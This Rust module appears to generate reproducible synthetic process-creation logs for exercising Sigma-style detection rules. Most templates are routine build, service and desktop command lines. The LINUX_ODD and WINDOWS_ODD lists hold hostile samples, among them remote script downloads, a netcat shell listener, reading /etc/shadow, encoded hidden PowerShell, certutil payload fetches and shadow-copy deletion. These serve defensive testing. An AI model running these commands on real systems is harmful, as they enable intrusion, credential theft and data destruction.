//! Events to match: made from a seed, always the same, as hosts at work make them.
//!
//! Templates of command lines with the programs and parents that go with them, their variable parts
//! drawn at random. One event in a hundred is of the kind that rules are written for.

/// What a process creation carries, in the words of Sigma.
#[derive(Clone)]
pub(super) struct Record {
    pub(super) fields: Vec<(&'static str, String)>,
}

impl Record {
    pub(super) fn get(&self, name: &str) -> &str {
        self.fields.iter().find(|(field, _)| *field == name).map_or("", |(_, value)| value)
    }

    /// One flat JSON object, as a log shipper writes it.
    pub(super) fn json(&self) -> String {
        let members = self.fields.iter().map(|(name, value)| ((*name).to_owned(), value.clone().into()));
        serde_json::Value::Object(members.collect()).to_string()
    }
}

/// Numbers that look random and are the same everywhere: splitmix64.
pub(super) struct Random(u64);

impl Random {
    pub(super) fn new(seed: u64) -> Self {
        Self(seed)
    }

    pub(super) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub(super) fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() % u64::try_from(bound).expect("64 bits")).expect("64 bits")
    }

    pub(super) fn pick<'a, T: ?Sized>(&mut self, from: &[&'a T]) -> &'a T {
        from[self.below(from.len())]
    }
}

/// Program, command line, parent, parent's command line.
type Template = (&'static str, &'static str, &'static str, &'static str);

const LINUX: &[Template] = &[
    (
        "/usr/bin/gcc-12",
        "gcc -O2 -g -Wall -Wextra -Iinclude -I/usr/include/{word} -c src/{word}.c -o build/{word}-{n}.o",
        "/usr/bin/make",
        "make -j{d} -C /srv/build/{word}",
    ),
    (
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -imultiarch x86_64-linux-gnu src/{word}.c -dumpbase {word}.c -O2 -o /tmp/cc{hex}.s",
        "/usr/bin/gcc-12",
        "gcc -O2 -c src/{word}.c",
    ),
    (
        "/usr/bin/x86_64-linux-gnu-ld.bfd",
        "/usr/bin/ld -plugin /usr/libexec/gcc/liblto_plugin.so --build-id --eh-frame-hdr -m elf_x86_64 --hash-style=gnu -o build/{word} build/{word}.o -lc",
        "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
        "/usr/lib/gcc/x86_64-linux-gnu/12/collect2 -o build/{word}",
    ),
    (
        "/usr/bin/git",
        "git -c protocol.version=2 fetch --no-tags --prune --depth={d} origin +refs/heads/{word}:refs/remotes/origin/{word}",
        "/usr/bin/bash",
        "bash --noprofile --norc -e -o pipefail /home/ci/work/_temp/{hex}.sh",
    ),
    (
        "/usr/bin/git",
        "git rev-parse --show-toplevel --abbrev-ref HEAD --git-dir --is-inside-work-tree",
        "/usr/bin/zsh",
        "-zsh",
    ),
    (
        "/usr/bin/rsync",
        "rsync -az --delete --exclude .cache /var/www/{word}/ backup@10.{d}.{d}.{d}:/backup/{word}/{n}/",
        "/usr/sbin/cron",
        "/usr/sbin/cron -f -P",
    ),
    (
        "/usr/bin/python3.11",
        "/usr/bin/python3 /opt/{word}/manage.py process_tasks --queue {word} --limit {n} --settings={word}.settings.production",
        "/usr/lib/systemd/systemd",
        "/sbin/init",
    ),
    (
        "/usr/bin/python3.11",
        "python3 -m {word}.worker --concurrency {d} --loglevel=INFO --hostname worker{d}@{word}",
        "/usr/bin/supervisord",
        "/usr/bin/python3 /usr/bin/supervisord -n -c /etc/supervisor/supervisord.conf",
    ),
    (
        "/usr/bin/node",
        "node --max-old-space-size=4096 /srv/app/node_modules/.bin/{word} build --mode production --out-dir dist/{hex}",
        "/usr/bin/npm",
        "npm run build --workspace @{word}/web",
    ),
    (
        "/usr/sbin/postconf",
        "postconf -h queue_directory data_directory mail_owner config_directory",
        "/usr/sbin/postfix",
        "/usr/sbin/postfix status",
    ),
    (
        "/usr/lib/postgresql/15/bin/postgres",
        "postgres: 15/main: {word} {word} 10.{d}.{d}.{d}({n}) idle in transaction",
        "/usr/lib/postgresql/15/bin/postgres",
        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf",
    ),
    (
        "/usr/bin/grep",
        "grep -E --color=never ^{word}: /etc/{word}.conf /etc/{word}.d/{word}.conf",
        "/usr/bin/dash",
        "/bin/sh /usr/share/{word}/{word}-helper --quiet {n}",
    ),
    (
        "/usr/bin/sed",
        "sed -n -e s/^{word}=//p -e /^#/d /var/lib/{word}/{word}.state",
        "/usr/bin/dash",
        "/bin/sh /etc/cron.daily/{word}",
    ),
    (
        "/usr/bin/mawk",
        "awk -F : $1 == \"{word}\" {print $3; exit} /var/lib/{word}/index-{n}",
        "/usr/bin/bash",
        "/bin/bash /usr/local/bin/{word}-report --since {n}",
    ),
    (
        "/usr/bin/date",
        "date --utc +%Y-%m-%dT%H:%M:%SZ --reference=/var/lib/{word}/stamp-{n}",
        "/usr/bin/bash",
        "/bin/bash /usr/local/bin/{word}-rotate",
    ),
    (
        "/usr/bin/mkdir",
        "mkdir -p -m 0755 /run/{word}/{word}-{n}/state /var/cache/{word}/{hex}",
        "/usr/bin/dash",
        "/bin/sh -e /usr/lib/{word}/prepare",
    ),
    (
        "/usr/bin/stat",
        "stat --format=%Y:%s:%n /var/lib/{word}/objects/{hex}/{word}.pack",
        "/usr/bin/bash",
        "bash /opt/{word}/bin/check-objects.sh",
    ),
    (
        "/usr/bin/runc",
        "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{hex}/log.json --log-format json state {hex}",
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {hex} -address /run/containerd/containerd.sock",
    ),
    (
        "/usr/local/bin/kube-probe",
        "/usr/local/bin/grpc_health_probe -addr=:{n} -connect-timeout=2s -rpc-timeout=2s",
        "/usr/bin/runc",
        "runc --root /run/containerd/runc/k8s.io exec --process /tmp/runc-process{n} {hex}",
    ),
    (
        "/usr/sbin/sshd",
        "sshd: {word} [priv]",
        "/usr/sbin/sshd",
        "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
    ),
    (
        "/usr/bin/dash",
        "sh -c /usr/lib/nagios/plugins/check_{word} -w {d} -c {n} -H 10.{d}.{d}.{d} -p {n}",
        "/usr/sbin/nrpe",
        "/usr/sbin/nrpe -c /etc/nagios/nrpe.cfg -f",
    ),
    (
        "/usr/bin/logrotate",
        "/usr/sbin/logrotate --state /var/lib/logrotate/status-{n} /etc/logrotate.d/{word}",
        "/usr/lib/systemd/systemd",
        "/lib/systemd/systemd --system --deserialize {n}",
    ),
    (
        "/usr/bin/java",
        "/usr/bin/java -Xms512m -Xmx{n}m -XX:+UseG1GC -Dspring.profiles.active=production -jar /opt/{word}/{word}-{d}.{d}.jar --server.port={n}",
        "/usr/lib/systemd/systemd",
        "/sbin/init",
    ),
    (
        "/usr/bin/ffmpeg",
        "ffmpeg -hide_banner -loglevel warning -i /media/in/{word}-{n}.mkv -c:v libx264 -preset slow -crf {d} /media/out/{word}-{n}.mp4",
        "/usr/bin/python3.11",
        "python3 /opt/transcode/worker.py --slot {d}",
    ),
    (
        "/usr/bin/tar",
        "tar --create --zstd --listed-incremental=/var/backups/{word}.snar --file /backup/{word}-{n}.tar.zst /srv/{word}",
        "/usr/bin/bash",
        "/bin/bash /usr/local/sbin/backup --target {word}",
    ),
    (
        "/usr/bin/psql",
        "psql --no-psqlrc --tuples-only --dbname={word} --command=SELECT count(*) FROM {word} WHERE id > {n}",
        "/usr/bin/bash",
        "bash /opt/{word}/metrics.sh",
    ),
    (
        "/usr/bin/cmake",
        "/usr/bin/cmake --build /srv/build/{word} --parallel {d} --target {word}_{word} --config Release",
        "/usr/bin/ninja",
        "ninja -C /srv/build/{word} -j {d}",
    ),
    (
        "/home/dev/.cargo/bin/rustc",
        "rustc --crate-name {word} --edition=2021 src/lib.rs --error-format=json --crate-type lib --emit=dep-info,metadata,link -C opt-level=3 -C metadata={hex}",
        "/home/dev/.cargo/bin/cargo",
        "cargo build --release --package {word}",
    ),
    (
        "/usr/bin/certbot",
        "/usr/bin/python3 /usr/bin/certbot -q renew --no-random-sleep-on-renew --deploy-hook systemctl reload nginx",
        "/usr/lib/systemd/systemd",
        "/sbin/init",
    ),
    (
        "/usr/bin/dpkg-query",
        "dpkg-query --show --showformat=${Package}\\t${Version}\\t${Status}\\n {word} lib{word}{d}",
        "/usr/bin/perl",
        "/usr/bin/perl /usr/sbin/needrestart -r l",
    ),
    (
        "/usr/bin/ansible-playbook",
        "/usr/bin/python3 /usr/bin/ansible-playbook -i inventories/production --limit {word}{d} --tags {word} site.yml",
        "/usr/bin/bash",
        "-bash",
    ),
    ("/usr/bin/vim.basic", "vim +{n} /srv/{word}/src/{word}/{word}.rs", "/usr/bin/bash", "-bash"),
];

const LINUX_ODD: &[Template] = &[
    ("/usr/bin/curl", "curl -fsSL http://185.{d}.{d}.{d}/{hex}.sh -o /tmp/.{word}", "/usr/bin/bash", "bash -i"),
    ("/usr/bin/base64", "base64 -d /tmp/.{hex}", "/usr/bin/bash", "bash -c echo {hex} | base64 -d | bash"),
    ("/usr/bin/nc.traditional", "nc -lvp {n} -e /bin/sh", "/usr/bin/dash", "sh -i"),
    ("/usr/bin/crontab", "crontab -l", "/usr/bin/bash", "bash -i"),
    ("/usr/bin/cat", "cat /etc/shadow", "/usr/bin/dash", "sh -c cat /etc/shadow"),
    ("/usr/bin/python3.11", "python3 -c import pty;pty.spawn(\"/bin/bash\")", "/usr/bin/dash", "sh -i"),
    ("/usr/sbin/iptables", "iptables -F", "/usr/bin/bash", "bash"),
    ("/usr/bin/chattr", "chattr -i /etc/ld.so.preload", "/usr/bin/bash", "bash -i"),
];

const WINDOWS: &[Template] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {word}",
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV{d}",
        r"C:\Program Files\Git\usr\bin\bash.exe",
        r#""C:\Program Files\Git\bin\bash.exe" --login -i"#,
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads={d} --renderer-client-id={n} --mojo-platform-channel-handle={n}"#,
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default"#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle /profile {word}-{n}"#,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "D:\Projects\{word}\{word} {n}.docx" /o """#,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe {word} {hex}",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    ),
    (
        r"C:\Windows\System32\SearchProtocolHost.exe",
        r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646"#,
        r"C:\Windows\System32\SearchIndexer.exe",
        r"C:\Windows\system32\SearchIndexer.exe /Embedding",
    ),
    (
        r"C:\Program Files\Git\mingw64\bin\git.exe",
        r"git.exe -c core.fsmonitor=true status --porcelain=v2 --untracked-files=normal -- D:\src\{word}\{word}",
        r"C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        r#""C:\Users\dev\AppData\Local\Programs\Microsoft VS Code\Code.exe" --ms-enable-electron-run-as-node"#,
    ),
    (
        r"C:\Program Files\Microsoft Visual Studio\2022\Professional\MSBuild\Current\Bin\MSBuild.exe",
        r#""C:\Program Files\Microsoft Visual Studio\2022\Professional\MSBuild\Current\Bin\MSBuild.exe" D:\src\{word}\{word}.sln /m:{d} /p:Configuration=Release /verbosity:minimal"#,
        r"C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\IDE\devenv.exe",
        r#""C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\IDE\devenv.exe" D:\src\{word}\{word}.sln"#,
    ),
    (
        r"C:\Program Files\dotnet\dotnet.exe",
        r#""C:\Program Files\dotnet\dotnet.exe" exec D:\build\{word}\bin\{word}.dll --urls http://localhost:{n} --environment Production"#,
        r"C:\Windows\System32\inetsrv\w3wp.exe",
        r"c:\windows\system32\inetsrv\w3wp.exe -ap {word} -v v4.0",
    ),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:{word}.AppX{hex}.mca"#,
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    ),
    (
        r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe",
        r#""C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler /appguid {hex}"#,
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    ),
    (
        r"C:\Program Files\Java\jdk-17\bin\java.exe",
        r#""C:\Program Files\Java\jdk-17\bin\java.exe" -Xmx{n}m -Dfile.encoding=UTF-8 -cp D:\apps\{word}\lib\{word}-{d}.{d}.jar com.{word}.Main --node {n}"#,
        r"C:\Program Files\{word}\{word}.exe",
        r#""C:\Program Files\{word}\{word}.exe" --service"#,
    ),
    (
        r"C:\Windows\System32\dllhost.exe",
        r"C:\Windows\system32\DllHost.exe /Processid:{{hex}}",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    ),
    (
        r"C:\Program Files\Zoom\bin\Zoom.exe",
        r#""C:\Program Files\Zoom\bin\Zoom.exe" --action=join --runaszvideo=TRUE --session={hex}"#,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
    (
        r"C:\Program Files\7-Zip\7zG.exe",
        r#""C:\Program Files\7-Zip\7zG.exe" x -o"D:\data\{word}" -spe -an -ai#7zMap{n}:68:7zEvent{n}"#,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
];

const WINDOWS_ODD: &[Template] = &[
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -nop -w hidden -enc {hex}{hex}",
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /c start /b powershell",
    ),
    (r"C:\Windows\System32\whoami.exe", r"whoami /all", r"C:\Windows\System32\cmd.exe", r"cmd.exe"),
    (
        r"C:\Windows\System32\vssadmin.exe",
        r"vssadmin.exe delete shadows /all /quiet",
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /c run.bat",
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://185.{d}.{d}.{d}/{hex}.exe C:\Users\Public\{word}.exe",
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Users\Public\{word}.dll,#1",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r"WINWORD.EXE /n invoice.docm",
    ),
    (
        r"C:\Windows\System32\schtasks.exe",
        r"schtasks /create /sc minute /mo 5 /tn {word} /tr C:\Users\Public\{word}.vbs /ru SYSTEM",
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe",
    ),
];

const WORDS: &[&str] = &[
    "orders", "billing", "catalog", "session", "metrics", "storage", "gateway", "account", "profile", "search",
    "invoice", "payment", "mailer", "render", "ledger", "archive", "sensor", "planner", "console", "replica",
];

/// Linux process creations.
pub(super) fn linux(count: usize) -> Vec<Record> {
    let mut random = Random::new(0xBEE);
    (0..count)
        .map(|_| {
            let odd = random.below(100) == 0;
            let mut record = record(&mut random, if odd { LINUX_ODD } else { LINUX });
            let user = random.pick(&["root", "www-data", "postgres", "ci", "dev", "deploy"]);
            let directory =
                fill(random.pick(&["/", "/srv/{word}", "/home/ci/work/{word}", "/var/lib/{word}"]), &mut random);
            record.fields.extend([("CurrentDirectory", directory), ("User", user.to_owned())]);
            record
        })
        .collect()
}

/// Windows process creations.
pub(super) fn windows(count: usize) -> Vec<Record> {
    let mut random = Random::new(0x51617A);
    (0..count)
        .map(|_| {
            let odd = random.below(150) == 0;
            let mut record = record(&mut random, if odd { WINDOWS_ODD } else { WINDOWS });
            let original = record.get("Image").rsplit('\\').next().unwrap_or_default().to_owned();
            let hashes = fill("MD5={hex},SHA256={hex}{hex},IMPHASH={hex}", &mut random);
            let user =
                random.pick(&[r"NT AUTHORITY\SYSTEM", r"CORP\dev", r"CORP\reception", r"NT AUTHORITY\LOCAL SERVICE"]);
            record.fields.extend([
                ("CurrentDirectory", r"C:\Windows\system32\".to_owned()),
                ("User", user.to_owned()),
                ("OriginalFileName", original),
                ("IntegrityLevel", random.pick(&["System", "Medium", "Medium", "High"]).to_owned()),
                ("Hashes", hashes),
                ("Product", random.pick(&["Microsoft Windows Operating System", "Microsoft Office", "Git"]).to_owned()),
                (
                    "Description",
                    random
                        .pick(&["Host Process for Windows Services", "Console Window Host", "Git for Windows"])
                        .to_owned(),
                ),
                (
                    "Company",
                    random.pick(&["Microsoft Corporation", "Google LLC", "The Git Development Community"]).to_owned(),
                ),
                ("ParentUser", user.to_owned()),
                ("TargetFilename", fill(r"D:\data\{word}\{word}-{n}.dat", &mut random)),
                ("FileVersion", fill("10.0.{n}.{d}", &mut random)),
                ("LogonId", fill("0x{n}", &mut random)),
                ("ImageLoaded", fill(r"C:\Program Files\{word}\{word}{d}.dll", &mut random)),
            ]);
            record
        })
        .collect()
}

/// Events made of the strings of rules themselves: nearly every look-up finds something.
pub(super) fn hostile(count: usize, strings: &[String]) -> Vec<Record> {
    let mut random = Random::new(0xBAD);
    let strings: Vec<&str> = strings.iter().map(String::as_str).collect();
    let text =
        |random: &mut Random, parts: usize| (0..parts).map(|_| random.pick(&strings)).collect::<Vec<_>>().join(" ");
    (0..count)
        .map(|_| Record {
            fields: vec![
                ("Image", text(&mut random, 1)),
                ("CommandLine", text(&mut random, 8)),
                ("ParentImage", text(&mut random, 1)),
                ("ParentCommandLine", text(&mut random, 4)),
                ("CurrentDirectory", text(&mut random, 1)),
                ("User", text(&mut random, 1)),
            ],
        })
        .collect()
}

fn record(random: &mut Random, templates: &[Template]) -> Record {
    let (image, line, parent, parent_line) = templates[random.below(templates.len())];
    let fields = [("Image", image), ("CommandLine", line), ("ParentImage", parent), ("ParentCommandLine", parent_line)];
    Record { fields: fields.map(|(name, template)| (name, fill(template, random))).into() }
}

/// A template with its variable parts drawn.
fn fill(template: &str, random: &mut Random) -> String {
    let mut text = String::new();
    let mut rest = template;
    while let Some((before, after)) = rest.split_once('{') {
        text.push_str(before);
        let drawn = after.split_once('}').and_then(|(name, after)| {
            let drawn = match name {
                "d" => random.below(32).to_string(),
                "hex" => format!("{:016x}", random.next()),
                "n" => (1_000 + random.below(60_000)).to_string(),
                "word" => random.pick(WORDS).to_owned(),
                _ => return None,
            };
            Some((drawn, after))
        });
        match drawn {
            Some((drawn, after)) => {
                text.push_str(&drawn);
                rest = after;
            }
            None => {
                text.push('{');
                rest = after;
            }
        }
    }
    text + rest
}
